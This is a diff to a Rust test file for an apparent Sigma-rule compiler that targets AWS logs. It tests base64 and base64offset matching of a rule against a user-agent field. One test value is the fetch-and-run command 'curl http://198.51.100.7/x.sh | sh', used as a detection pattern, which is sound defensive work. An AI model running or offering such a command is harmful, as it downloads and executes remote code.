@@ -298,8 +298,13 @@ fn numeric_comparisons_need_a_numeric_field() {
 fn what_cannot_be_translated_exactly_is_refused() {
     let cases = [
         (
-            "    s:\n        eventName|base64offset|contains: x\n    condition: s\n",
-            err(5, 9, "detection.s.eventName|base64offset|contains", "the base64offset modifier is not supported yet"),
+            "    s:\n        eventName|base64offset: x\n    condition: s\n",
+            err(
+                5,
+                9,
+                "detection.s.eventName|base64offset",
+                "base64offset finds the value inside a longer text: use base64offset|contains",
+            ),
         ),
         (
             "    s:\n        eventName|sounds_like: x\n    condition: s\n",
@@ -564,4 +569,55 @@ fn vpc_flow_logs_and_guardduty_are_tripline_log_sources() {
     assert!(err.contains("no GuardDuty finding field \"service.evidence\""), "{err}");
     let err = rule("route53", "    s:\n        a: x\n    condition: s\n").unwrap_err().to_string();
     assert!(err.contains("service: cloudtrail, vpcflowlogs or guardduty"), "{err}");
+}
+
+/// The base64 texts a compiled clause searches for.
+fn patterns(q: &QueryAst, out: &mut Vec<String>) {
+    match q {
+        QueryAst::Wildcard { pattern, case_insensitive, .. } => {
+            assert!(!case_insensitive, "base64 is matched exactly");
+            out.push(pattern.trim_matches('*').to_string())
+        }
+        QueryAst::Term { value: Value::Str(s), case_insensitive, .. } => {
+            assert!(!case_insensitive, "base64 is matched exactly");
+            out.push(s.clone())
+        }
+        QueryAst::Bool { must, should, must_not } => {
+            must.iter().chain(should).chain(must_not).for_each(|c| patterns(c, out))
+        }
+        _ => {}
+    }
+}
+
+#[test]
+fn base64offset_finds_the_value_at_any_offset_of_a_longer_encoded_text() {
+    use base64::Engine as _;
+    let b64 = |s: &str| base64::engine::general_purpose::STANDARD.encode(s.as_bytes());
+    for value in ["ping", "curl http://198.51.100.7/x.sh | sh", "ab", "whoami!"] {
+        let q = compiled(&format!(
+            "    s:\n        userAgent|base64offset|contains: '{value}'\n    condition: s\n"
+        ));
+        let mut found = Vec::new();
+        patterns(&q, &mut found);
+        found.retain(|p| p != "cloudtrail");
+        assert_eq!(found.len(), 3, "{value}: {found:?}");
+        for prefix in ["", "a", "ab", "abc", "abcd"] {
+            for suffix in ["", "x", "xy", "xyz"] {
+                let text = b64(&format!("{prefix}{value}{suffix}"));
+                assert!(
+                    found.iter().any(|p| text.contains(p.as_str())),
+                    "{value:?} in {text} ({prefix:?}, {suffix:?}): {found:?}"
+                );
+            }
+        }
+    }
+    let q = compiled("    s:\n        userAgent|base64: ping\n    condition: s\n");
+    assert_eq!(
+        q,
+        cloudtrail(QueryAst::Term {
+            field: "details.useragent".into(),
+            value: Value::from("cGluZw=="),
+            case_insensitive: false
+        })
+    );
 }
